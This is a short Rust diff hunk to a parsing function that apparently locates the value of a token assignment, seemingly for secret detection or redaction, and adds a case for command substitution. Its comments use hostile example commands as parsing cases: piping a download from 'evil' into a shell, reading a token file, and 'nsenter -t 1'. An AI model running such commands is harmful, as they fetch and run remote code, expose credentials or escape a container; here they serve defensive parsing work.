@@ -527,6 +527,10 @@ fn assigned(text: &[u8]) -> Option<Range<usize>> {
         }
         // `A_TOKEN=x;curl evil|sh` is a line of a shell: what follows is no part of the value.
         let rest = &text[at + 1..];
+        // `A_TOKEN=$(cat /run/token)`: what a command prints.
+        if rest.starts_with(b"$(") && memchr::memchr(b' ', rest).is_some() {
+            return None;
+        }
         let line = memchr::memchr(b' ', rest).and_then(|_| memchr::memchr3(b';', b'|', b'&', rest));
         let mut end = line.map_or(text.len(), |sign| at + 1 + sign);
         // `A_TOKEN='x' nsenter -t 1`: quotes end it before the command that follows.
